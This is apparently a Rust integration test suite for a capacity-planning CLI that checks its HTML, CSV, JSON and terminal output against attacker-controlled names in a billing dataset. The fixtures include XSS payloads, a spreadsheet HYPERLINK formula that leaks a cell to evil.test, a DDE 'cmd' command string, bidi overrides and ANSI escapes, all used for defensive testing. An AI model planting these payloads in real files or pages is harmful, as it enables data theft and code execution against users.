//! `capplan report` end to end on a small tidy bill whose names are hostile: escaping, exports,
//! determinism, atomic writes, the index, `--fail-on-budget` and plan-file errors.

use std::fmt::Write as _;
use std::path::Path;

use assert_cmd::Command;
use predicates::prelude::*;

/// A service name and a tag value an attacker could put in a bill.
const EVIL: &str = r#"<script>alert("x")</script> & 'Co' <img src=x onerror=alert(1)>"#;
const EVIL_REGION: &str = "eu-\"west\"&<b>1</b>";

/// A TOML basic string: quotes and backslashes escaped, control and bidi characters as
/// `\uXXXX`.
fn toml_str(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control()
                || matches!(c, '\u{200E}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}') =>
            {
                write!(out, "\\u{:04X}", u32::from(c)).unwrap()
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// The names an attacker controls in the hostile bill and plan file.
struct Names<'a> {
    /// The first series' service (also the pool's, the budget group's and the limit's match).
    service: &'a str,
    /// Both series' region.
    region: &'a str,
    /// The budget group's name.
    group: &'a str,
    /// The second demand scenario's name.
    demand: &'a str,
}

const EVIL_NAMES: Names<'static> = Names {
    service: EVIL,
    region: EVIL_REGION,
    group: "team <script>alert(\"x\")</script> & 'Co' <img src=x onerror=alert(1)>",
    demand: "up <i>&amp;</i> \"more\"",
};

fn write_inputs(dir: &Path, budget: &str) {
    write_inputs_named(dir, budget, &EVIL_NAMES);
}

fn write_inputs_named(dir: &Path, budget: &str, names: &Names<'_>) {
    // 70 days of hourly usage: one steady, one business-hours series; cost = 0.1 × quantity.
    let mut csv = String::from("timestamp,service,region,instance_type,quantity,unit,cost\n");
    for h in 0..70 * 24 {
        let day =
            chrono::NaiveDate::from_ymd_opt(2026, 6, 1).unwrap() + chrono::Duration::days(h / 24);
        let hr = h % 24;
        let steady =
            20.0 + 5.0 * ((hr as f64) / 24.0 * std::f64::consts::TAU).sin() + (h % 7) as f64 * 0.25;
        let office = if (9..18).contains(&hr) { 9.0 } else { 2.0 } + (h % 5) as f64 * 0.2;
        let q = |x: f64| format!("{x:.3}");
        let ts = format!("{day}T{hr:02}:00:00Z");
        let field = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
        writeln!(
            csv,
            "{ts},{},{},m.large,{},Hours,{:.4}",
            field(names.service),
            field(names.region),
            q(steady),
            steady * 0.1
        )
        .unwrap();
        writeln!(
            csv,
            "{ts},Storage,{},none,{},GB-Hours,{:.4}",
            field(names.region),
            q(office),
            office * 0.02
        )
        .unwrap();
    }
    std::fs::write(dir.join("usage.csv"), csv).unwrap();
    let rates = format!(
        r#"
[[pool]]
id = "evil-pool"
description = {desc}
match = {{ service = {svc}, region = {reg}, instance_type = "m.large" }}
unit = "instance-hours"
series_unit = "Hours"
on_demand_rate = "0.10"
currency = "USD"
offer = [
  {{ id = "evil-1y", kind = "ri_standard", term = "1y", payment = "no_upfront", recurring_hourly = "0.065" }},
  {{ id = "evil-3y", kind = "ri_standard", term = "3y", payment = "all_upfront", upfront = "1051.2" }},
]
"#,
        desc = toml_str(&format!("pool of {}", names.service)),
        svc = toml_str(names.service),
        reg = toml_str(names.region),
    );
    std::fs::write(dir.join("rates.toml"), rates).unwrap();
    let plan = format!(
        r#"
name = "hostile"
horizon = "1y"
rates = "rates.toml"
fiscal_year_start_month = 4
quarters = 2

[inputs]
paths = ["usage.csv"]

[series]
by = ["service", "region"]
granularity = "day"

[forecast]
windows = 3
paths = 40
seed = 7

[budget]
total = {{ "FY2027-Q2" = "{budget}", "FY2027-Q3" = "{budget}" }}

[[budget.group]]
name = {group}
match = {{ service = {svc} }}
quarters = {{ "FY2027-Q2" = "{budget}" }}

[[limit]]
match = {{ service = {svc} }}
value = 400

[[scenario.demand]]
name = "base"

[[scenario.demand]]
name = {dname}
multiplier = 1.3

[[scenario.strategy]]
name = "none"
kind = "none"

[[scenario.strategy]]
name = "recommended"
kind = "recommended"

[[scenario.strategy]]
name = "cover-50"
kind = "coverage"
coverage_percent = 50

[[scenario.strategy]]
name = "lookback"
kind = "lookback"
days = 14
"#,
        group = toml_str(names.group),
        svc = toml_str(names.service),
        dname = toml_str(names.demand),
    );
    std::fs::write(dir.join("plan.toml"), plan).unwrap();
}

fn report(dir: &Path, out: &str) -> assert_cmd::assert::Assert {
    Command::cargo_bin("capplan")
        .unwrap()
        .current_dir(dir)
        .args(["report", "--config", "plan.toml", "--out", out])
        .assert()
}

fn files(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut v: Vec<(String, Vec<u8>)> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap())
        .map(|e| {
            (
                e.file_name().into_string().unwrap(),
                std::fs::read(e.path()).unwrap(),
            )
        })
        .collect();
    v.sort();
    v
}

#[test]
fn hostile_names_render_as_text_and_reruns_are_byte_identical() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    write_inputs(dir, "1000000");
    report(dir, "a")
        .success()
        .stdout(predicate::str::contains("wrote a/hostile-FY2027-Q2.html"));
    report(dir, "b").success();
    let a = files(&dir.join("a"));
    let b = files(&dir.join("b"));
    let names: Vec<&str> = a.iter().map(|(n, _)| n.as_str()).collect();
    for want in [
        "hostile-FY2027-Q2.html",
        "hostile-FY2027-Q2.xlsx",
        "hostile-FY2027-Q2.quarterly_plan.csv",
        "hostile-FY2027-Q2.quarterly_plan.json",
        "hostile-FY2027-Q2.scenario_matrix.csv",
        "hostile-FY2027-Q2.recommendations.json",
        "hostile-FY2027-Q2.budget_groups.csv",
        "index.html",
    ] {
        assert!(names.contains(&want), "{want} missing from {names:?}");
    }
    assert!(
        !names.iter().any(|n| n.ends_with(".tmp")),
        "temporary files left: {names:?}"
    );
    assert_eq!(a, b, "same inputs must give byte-identical files");

    let html = String::from_utf8(
        a.iter()
            .find(|(n, _)| n.ends_with("Q2.html"))
            .unwrap()
            .1
            .clone(),
    )
    .unwrap();
    // No markup from the data survives: the report has no script, no img and no event
    // handler anywhere, and the hostile strings appear escaped.
    for bad in ["<script", "<img", "<b>1</b>", "<i>&amp;</i>"] {
        assert!(!html.contains(bad), "{bad} found unescaped");
    }
    assert!(html.contains("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;Co&#39;"));
    assert!(html.contains("eu-&quot;west&quot;&amp;&lt;b&gt;1&lt;/b&gt;"));
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    assert!(html.contains("up &lt;i&gt;&amp;amp;&lt;/i&gt; &quot;more&quot;"));
    // Nothing to fetch: no src/href to a URL, no CSS url() (the SVG namespace is not a fetch).
    for fetch in ["src=\"http", "href=\"http", "url(", "@import"] {
        assert!(!html.contains(fetch), "{fetch}");
    }
    for section in [
        "id=\"summary\"",
        "id=\"quarterly-plan\"",
        "id=\"scenarios\"",
        "id=\"recommendations\"",
        "id=\"forecasts\"",
        "id=\"anomalies\"",
        "id=\"data-quality\"",
        "id=\"method\"",
    ] {
        assert!(html.contains(section), "{section}");
    }
    assert_eq!(html.matches("<svg").count(), html.matches("</svg>").count());
    assert!(html.matches("<svg").count() >= 5);

    // CSV: the hostile text is one quoted field, read back intact.
    let csv = &a
        .iter()
        .find(|(n, _)| n.ends_with("budget_groups.csv"))
        .unwrap()
        .1;
    let mut rd = csv::Reader::from_reader(csv.as_slice());
    let row = rd.records().next().unwrap().unwrap();
    assert_eq!(&row[0], EVIL_NAMES.group);
    // JSON: money as exact strings.
    let json: serde_json::Value = serde_json::from_slice(
        &a.iter()
            .find(|(n, _)| n.ends_with("scenario_matrix.json"))
            .unwrap()
            .1,
    )
    .unwrap();
    assert_eq!(json.as_array().unwrap().len(), 8, "2 demand × 4 strategies");
    let total = json[0]["total_cost"].as_str().unwrap();
    assert!(total.parse::<rust_decimal::Decimal>().is_ok(), "{total}");
    // The index lists the report and escapes its summary.
    let index =
        String::from_utf8(a.iter().find(|(n, _)| n == "index.html").unwrap().1.clone()).unwrap();
    assert!(index.contains("href=\"hostile-FY2027-Q2.html\""));
    assert!(!index.contains("<script"));
}

/// Formula injection (OWASP), bidi controls and terminal escapes in names: the report's CSVs
/// and `ingest`'s CSV neutralise formulas (JSON keeps the exact text), the HTML shows bidi
/// controls and ESC as U+FFFD, and `inspect` prints control characters as visible escapes.
#[test]
fn formula_bidi_and_escape_names_are_neutralised() {
    const HYPERLINK: &str = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")";
    const CMD: &str = "+cmd|' /C calc'!A0";
    const SUM: &str = "@SUM(1)";
    // U+202E would show "05 USD" as "DSU 50"; ESC [31m would turn the terminal red.
    const SERVICE: &str = "svc \u{202E}05 USD\u{202C} \u{1b}[31mred\u{1b}[0m";
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    write_inputs_named(
        dir,
        "1000000",
        &Names {
            service: SERVICE,
            region: SUM,
            group: HYPERLINK,
            demand: CMD,
        },
    );
    report(dir, "r").success();
    let read = |name: &str| {
        std::fs::read(dir.join("r").join(format!("hostile-FY2027-Q2.{name}"))).unwrap()
    };

    // CSV: the formula text is a quoted field with a leading `'`; numbers are untouched.
    let groups = String::from_utf8(read("budget_groups.csv")).unwrap();
    let line = groups.lines().nth(1).unwrap();
    assert!(
        line.starts_with(
            "\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"click\"\")\",FY2027-Q2,"
        ),
        "{groups}"
    );
    let matrix = String::from_utf8(read("scenario_matrix.csv")).unwrap();
    assert!(
        matrix.contains("\n\"'+cmd|' /C calc'!A0\",none,"),
        "{matrix}"
    );
    for csv in [&groups, &matrix] {
        let mut rd = csv::Reader::from_reader(csv.as_bytes());
        for rec in rd.records() {
            for field in rec.unwrap().iter() {
                let f = field.trim_start_matches(['\t', '\r']);
                let numeric = f.parse::<f64>().is_ok();
                assert!(
                    numeric || !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{field:?} in {csv}"
                );
            }
        }
    }
    // JSON keeps the exact names.
    let groups: serde_json::Value = serde_json::from_slice(&read("budget_groups.json")).unwrap();
    assert_eq!(groups[0]["group"], HYPERLINK);
    let matrix: serde_json::Value = serde_json::from_slice(&read("scenario_matrix.json")).unwrap();
    assert!(
        matrix
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["demand"] == CMD)
    );

    // HTML: no bidi control and no ESC reaches the page; the name shows with U+FFFD.
    let html = String::from_utf8(read("html")).unwrap();
    for bad in ['\u{202E}', '\u{202C}', '\u{1b}'] {
        let at: Vec<String> = html
            .match_indices(bad)
            .map(|(i, _)| html[html.floor_char_boundary(i.saturating_sub(120))..i].to_string())
            .collect();
        assert!(at.is_empty(), "{bad:?} in the HTML after: {at:#?}");
    }
    assert!(html.contains("svc \u{FFFD}05 USD\u{FFFD} \u{FFFD}[31mred\u{FFFD}[0m"));

    // `ingest` CSV: dimension values neutralised; Parquet keeps them.
    let out = dir.join("series.csv");
    Command::cargo_bin("capplan")
        .unwrap()
        .current_dir(dir)
        .args(["ingest", "usage.csv", "--by", "service,region", "--out"])
        .arg(&out)
        .assert()
        .success();
    let series = std::fs::read_to_string(&out).unwrap();
    assert!(
        series.contains(",\"'@SUM(1)\","),
        "{}",
        &series[..400.min(series.len())]
    );
    assert!(!series.contains(",@SUM(1),"));

    // `inspect`: the ESC and the bidi override are printed as visible escapes.
    let o = Command::cargo_bin("capplan")
        .unwrap()
        .current_dir(dir)
        .args(["inspect", "usage.csv"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let text = String::from_utf8(o.stdout).unwrap();
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{202E}'),
        "{text}"
    );
    assert!(
        text.contains("svc \\u{202e}05 USD\\u{202c} \\u{1b}[31mred"),
        "{text}"
    );
}

#[test]
fn recommended_beats_buying_nothing_on_steady_demand() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    write_inputs(dir, "1000000");
    report(dir, "out").success();
    let json: serde_json::Value = serde_json::from_slice(
        &std::fs::read(dir.join("out/hostile-FY2027-Q2.scenario_matrix.json")).unwrap(),
    )
    .unwrap();
    let cell = |d: &str, s: &str| -> rust_decimal::Decimal {
        json.as_array()
            .unwrap()
            .iter()
            .find(|c| c["demand"] == d && c["strategy"] == s)
            .unwrap()["total_cost"]
            .as_str()
            .unwrap()
            .parse()
            .unwrap()
    };
    // The steady series (≈ 20 units) is worth committing; the optimizer's choice costs less
    // than nothing, and the higher-demand scenario costs more for every strategy.
    assert!(cell("base", "recommended") < cell("base", "none"));
    for s in ["none", "recommended", "cover-50", "lookback"] {
        assert!(cell("up <i>&amp;</i> \"more\"", s) > cell("base", s), "{s}");
    }
    let quarters: serde_json::Value = serde_json::from_slice(
        &std::fs::read(dir.join("out/hostile-FY2027-Q2.quarterly_plan.json")).unwrap(),
    )
    .unwrap();
    let q = &quarters[0];
    let dec = |k: &str| -> rust_decimal::Decimal { q[k].as_str().unwrap().parse().unwrap() };
    assert!(dec("spend_p10") <= dec("spend_p50") && dec("spend_p50") <= dec("spend_p90"));
    assert_eq!(q["quarter"], "FY2027-Q2");
    assert_eq!(
        q["start"], "2026-08-10",
        "the quarter starts at as_of (end of data)"
    );
}

#[test]
fn fail_on_budget_exits_3_after_writing_the_report() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    write_inputs(dir, "10");
    Command::cargo_bin("capplan")
        .unwrap()
        .current_dir(dir)
        .args([
            "report",
            "--config",
            "plan.toml",
            "--out",
            "r",
            "--fail-on-budget",
        ])
        .assert()
        .code(3)
        .stderr(predicate::str::contains("over budget"))
        .stderr(predicate::str::contains("FY2027-Q2"));
    assert!(dir.join("r/hostile-FY2027-Q2.html").exists());
    // Without the flag the same run succeeds.
    report(dir, "r").success();
}

#[test]
fn plan_file_errors_name_the_line_and_exit_2() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    write_inputs(dir, "1000");
    let text = std::fs::read_to_string(dir.join("plan.toml")).unwrap();
    std::fs::write(
        dir.join("plan.toml"),
        text.replace("quarters = 2", "quartres = 2"),
    )
    .unwrap();
    report(dir, "r")
        .code(2)
        .stderr(predicate::str::contains("plan.toml: line 6"))
        .stderr(predicate::str::contains("quartres"));
    // A purchase of an offer the pool does not have names the plan file's line.
    std::fs::write(
        dir.join("plan.toml"),
        format!(
            "{text}\n[[scenario.strategy]]\nname = \"custom\"\nkind = \"purchases\"\npurchase = [ {{ pool = \"evil-pool\", offer = \"nope\", quantity = 3, date = 2026-09-01 }} ]\n"
        ),
    )
    .unwrap();
    report(dir, "r")
        .code(2)
        .stderr(predicate::str::contains("\"nope\" is not an offer of pool"));
    // A missing plan file.
    Command::cargo_bin("capplan")
        .unwrap()
        .current_dir(dir)
        .args(["report", "--config", "missing.toml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("missing.toml"));
}
